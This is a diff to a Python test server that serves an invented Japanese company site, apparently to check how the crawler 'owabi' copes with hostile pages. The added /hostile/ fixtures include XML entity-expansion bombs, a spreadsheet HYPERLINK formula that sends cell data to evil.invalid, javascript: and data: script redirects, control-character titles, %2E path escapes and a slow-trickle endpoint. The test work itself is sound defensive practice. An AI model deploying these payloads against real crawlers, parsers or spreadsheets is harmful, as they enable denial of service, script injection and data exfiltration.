@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """A small invented company site for the ingest tests (python3 stdlib only).
 
-    python3 server.py LOGFILE [--bulk N]
+    python3 server.py LOGFILE [--bulk N] [--big-robots MB]
 
 Listens on 127.0.0.1 on an ephemeral port and prints "PORT\n" on stdout once
 ready.  Every request is logged to LOGFILE as one JSON line:
@@ -19,9 +19,19 @@ The site: robots.txt (a group for owabi disallowing /members/), an index page
 answers 429 with Retry-After: 1.  Every page has an
 ETag and a Last-Modified and answers 304 to a matching If-None-Match (or,
 without one, to an If-Modified-Since not older than the page).
+/hostile/ holds what a hostile site serves (see HOSTILE below): feeds whose
+DTD expands to gigabytes, a title that is a spreadsheet formula, control
+characters, a robots.txt escape through "%2E", gzipped sitemaps, redirects
+to javascript: and data:, and
+/hostile/trickle (one byte a second) and /hostile/sleep?s=N (answers after
+N seconds).  With --big-robots MB, robots.txt is an allow-all group for
+owabi followed by MB megabytes of other rules, the last of them
+disallowing /news/ for owabi past the first 512 KiB.
 All companies, people and numbers are invented."""
 import email.utils
+import gzip
 import hashlib
+import html as htmlmod
 import json
 import sys
 import threading
@@ -160,6 +170,99 @@ User-agent: otherbot
 Allow: /members/
 """
 
+# ---- /hostile/ -------------------------------------------------------------
+
+def hostile_notice(title, org, count):
+    return html(htmlmod.escape(title, quote=False), """
+<p>2025年4月2日</p>
+<p>%s</p>
+<p>当社の配送状況照会サイトが第三者による不正アクセスを受け、お客様の氏名、住所、電話番号%d件が漏えいした可能性があることが判明いたしました。</p>
+<p>お客様には多大なるご迷惑とご心配をおかけしましたことを、深くお詫び申し上げます。</p>""" % (htmlmod.escape(org), count))
+
+
+# One entity of 200 KB used 5,000 times: a gigabyte when read whole.
+ENTITY_BIG = "A" * 200000
+ENTITY_REFS = "&big;" * 5000
+ENTITY_RSS = """<?xml version="1.0" encoding="utf-8"?>
+<!DOCTYPE rss [<!ENTITY big "%s">]>
+<rss version="2.0"><channel><title>かもめ運輸 お知らせ</title>
+ <item><title>不正アクセスによる個人情報漏えいに関するお詫び %s</title>
+  <link>{base}/hostile/notice.html</link></item>
+</channel></rss>
+""" % (ENTITY_BIG, ENTITY_REFS)
+ENTITY_ATOM = """<?xml version="1.0" encoding="utf-8"?>
+<!DOCTYPE feed [<!ENTITY big "%s">]>
+<feed xmlns="http://www.w3.org/2005/Atom"><title>かもめ運輸</title>
+ <entry><title>お詫び</title><link href="{base}/hostile/notice.html%s"/></entry>
+ <entry><title>不正アクセスに関するお詫び</title><link href="{base}/hostile/notice.html"/></entry>
+</feed>
+""" % (ENTITY_BIG, ENTITY_REFS)
+ENTITY_SITEMAP = """<?xml version="1.0" encoding="utf-8"?>
+<!DOCTYPE urlset [<!ENTITY big "%s">]>
+<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
+ <url><loc>{base}/hostile/notice.html%s</loc></url>
+ <url><loc>{base}/hostile/notice.html</loc></url>
+</urlset>
+""" % (ENTITY_BIG, ENTITY_REFS)
+
+GZ_SITEMAP = """<?xml version="1.0" encoding="UTF-8"?>
+<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
+ <url><loc>{base}/hostile/gz-notice.html</loc></url>
+</urlset>
+"""
+
+DOTS_INDEX = html("お知らせ一覧", """
+<ul><li><a href="/%2E/members/dot.html">不正アクセスに関するお詫び</a></li>
+<li><a href="/hostile/%2E%2E/members/dotdot.html">会員情報流出のお詫び</a></li></ul>""")
+
+HOSTILE = {
+    # path: (content type, text; "{base}" is the site's URL)
+    "/hostile/notice.html": ("text/html; charset=utf-8",
+                             hostile_notice("不正アクセスによる個人情報漏えいに関するお詫び",
+                                            "株式会社かもめ運輸", 412)),
+    "/hostile/entity.rss": ("application/rss+xml", ENTITY_RSS),
+    "/hostile/entity.atom": ("application/atom+xml", ENTITY_ATOM),
+    "/hostile/entity-sitemap.xml": ("application/xml", ENTITY_SITEMAP),
+    "/hostile/formula.html": ("text/html; charset=utf-8", hostile_notice(
+        '=HYPERLINK("http://evil.invalid/?"&A1,"不正アクセスによる個人情報漏えいに関するお詫び")',
+        "株式会社つばめ商事", 58)),
+    # U+202E (right-to-left override) and C1 controls (CSI U+009B, OSC
+    # U+009D) in the title, raw and as character references, and in the name
+    "/hostile/controls.html": ("text/html; charset=utf-8", hostile_notice(
+        "不正アクセス\u202eによる\u009b31m個人情報漏えいに関する\u009dお詫び",
+        "株式会社\u202eひばり\u2066運輸", 77).replace("お詫び</h1>", "&#x202E;&#155;お詫び</h1>")),
+    "/hostile/dots/": ("text/html; charset=utf-8", DOTS_INDEX),
+    "/hostile/sitemap.xml.gz": ("application/gzip", GZ_SITEMAP),
+    "/hostile/sitemap-x.xml.gz": ("application/x-gzip", GZ_SITEMAP),
+    "/hostile/gz-notice.html": ("text/html; charset=utf-8", hostile_notice(
+        "ランサムウェア被害に関するお詫び", "株式会社しらさぎ倉庫", 903)),
+}
+
+
+# Redirects to schemes owabi must refuse, answered in do_GET.
+HOSTILE_REDIRECTS = {
+    "/hostile/to-js": "javascript:alert(document.domain)",
+    "/hostile/to-data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+}
+
+
+def big_robots(mb):
+    """An allow-all group for owabi, then mb MB of another agent's rules;
+    past the first 512 KiB a group for owabi disallows /news/ (which a
+    parser that reads only the first 512 KiB, as RFC 9309 allows, never
+    sees)."""
+    head = "User-agent: owabi\nAllow: /\n\nUser-agent: otherbot\n"
+    lines = []
+    size = len(head)
+    i = 0
+    while size < mb * 1024 * 1024:
+        line = "Disallow: /archive/%07d/\n" % i
+        lines.append(line)
+        size += len(line)
+        i += 1
+    return (head + "".join(lines) + "\nUser-agent: owabi\nDisallow: /news/\n").encode("ascii")
+
+
 ORGS = ["あさひ", "いずみ", "うみべ", "えびす", "おおとり", "かえで", "きりん", "くすのき", "けやき", "こだま"]
 KINDS = ["商事", "食品", "電機", "工業", "物流"]
 
@@ -176,8 +279,9 @@ def bulk_notice(i, version=0):
 
 
 class Site:
-    def __init__(self, bulk):
+    def __init__(self, bulk, big_robots_mb=0):
         self.bulk = bulk
+        self.big_robots = big_robots_mb
         self.version = 0    # of the bulk notices: /_ctl/bump raises it
         self.pages = {}     # path -> [content-type, body bytes, mtime]
         self.revised = {"/news/2025/0312-owabi.html": NOTICE_A2}
@@ -210,6 +314,13 @@ class Site:
         put("/bulk/", html("お知らせ一覧", "<ul>%s</ul>" % links))
         for i in range(self.bulk):
             put("/bulk/n%02d.html" % i, bulk_notice(i))
+        for path, (ctype, body) in HOSTILE.items():
+            body = body.replace("{base}", base).encode("utf-8")
+            if path.endswith(".gz"):
+                body = gzip.compress(body, mtime=0)
+            self.pages[path] = [ctype, body, BOOT]
+        if self.big_robots:
+            self.pages["/robots.txt"][1] = big_robots(self.big_robots)
 
 
 class Handler(BaseHTTPRequestHandler):
@@ -250,15 +361,24 @@ class Handler(BaseHTTPRequestHandler):
             self.send_header("Content-Length", "0")
             self.end_headers()
             return
+        if url.path == "/hostile/trickle":
+            self.trickle(start)
+            return
+        if url.path == "/hostile/sleep":
+            time.sleep(float(urllib.parse.parse_qs(url.query).get("s", ["1"])[0]))
         with LOCK:
             page = site.pages.get(url.path)
             page = list(page) if page else None
+            if url.path == "/hostile/sleep":
+                page = list(site.pages["/news/2025/0220.html"])
         inm = self.headers.get("If-None-Match")
         ims = self.headers.get("If-Modified-Since")
         if url.path.startswith("/bulk/n"):
             time.sleep(0.01)      # a page takes a moment, so kills land mid-run
         if url.path == "/busy/":
             status, body, hdrs = 429, b"slow down\n", {"Content-Type": "text/plain", "Retry-After": "1"}
+        elif url.path in HOSTILE_REDIRECTS:
+            status, body, hdrs = 302, b"", {"Location": HOSTILE_REDIRECTS[url.path]}
         elif page is None:
             status, body, hdrs = 404, b"not found\n", {"Content-Type": "text/plain"}
         else:
@@ -285,23 +405,42 @@ class Handler(BaseHTTPRequestHandler):
         self.end_headers()
         if status != 304:
             self.wfile.write(body)
-        end = time.time()
-        rec = {"start": start, "end": end, "path": self.path, "inm": inm, "ims": ims,
+        self.log_request_done(start, status, inm, ims)
+
+    def log_request_done(self, start, status, inm=None, ims=None):
+        rec = {"start": start, "end": time.time(), "path": self.path, "inm": inm, "ims": ims,
                "ua": self.headers.get("User-Agent"), "status": status}
         with LOCK:
             with open(self.server.logfile, "a", encoding="utf-8") as f:
                 f.write(json.dumps(rec, ensure_ascii=False) + "\n")
 
+    def trickle(self, start):
+        """One byte a second for two minutes: never a stall, never done."""
+        self.log_request_done(start, 200)     # logged first: it may never end
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", "120")
+        self.end_headers()
+        for _ in range(120):
+            self.wfile.write(b".")
+            self.wfile.flush()
+            time.sleep(1)
+
 
 def main():
     logfile = sys.argv[1]
-    bulk = 40
-    if len(sys.argv) > 3 and sys.argv[2] == "--bulk":
-        bulk = int(sys.argv[3])
+    bulk, big = 40, 0
+    args = sys.argv[2:]
+    while args:
+        if args[0] == "--bulk":
+            bulk = int(args[1])
+        elif args[0] == "--big-robots":
+            big = int(args[1])
+        args = args[2:]
     srv = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
     srv.daemon_threads = True
     srv.logfile = logfile
-    srv.site = Site(bulk)
+    srv.site = Site(bulk, big)
     srv.site.build("http://127.0.0.1:%d" % srv.server_address[1])
     print(srv.server_address[1], flush=True)
     # Stops by itself after 10 minutes, whatever happens to the test.
